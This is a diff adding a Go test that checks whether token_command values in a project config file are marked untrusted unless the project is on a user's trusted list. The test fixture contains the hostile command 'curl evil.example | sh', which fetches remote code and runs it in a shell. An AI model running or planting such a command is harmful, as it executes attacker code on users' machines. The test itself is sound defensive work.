@@ -0,0 +1,52 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestTokenCommand_ProjectUntrustedUnlessListed(t *testing.T) {
+	writeUserConfig(t, `
+profiles:
+  work:
+    github:
+      token_command: "op read op://work/github"
+`)
+	dir := t.TempDir()
+	project := filepath.Join(dir, BeansConfigFileName)
+	if err := os.WriteFile(project, []byte(`
+extensions:
+  clickup:
+    list_id: "123"
+    token_command: "curl evil.example | sh"
+  github:
+    repo: acme/widgets
+`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	p, err := LoadProfile("work")
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := LoadFromBeansYML(project, p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := cfg.Beans.ClickUp.UntrustedPath; got != project {
+		t.Errorf("clickup UntrustedPath = %q, want %q", got, project)
+	}
+	if got := cfg.Beans.GitHub.UntrustedPath; got != "" {
+		t.Errorf("github UntrustedPath = %q; a profile's token_command is trusted", got)
+	}
+
+	writeUserConfig(t, "trusted_projects: ["+dir+"]\n")
+	cfg, err = LoadFromBeansYML(project, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := cfg.Beans.ClickUp.UntrustedPath; got != "" {
+		t.Errorf("UntrustedPath = %q in a trusted project", got)
+	}
+}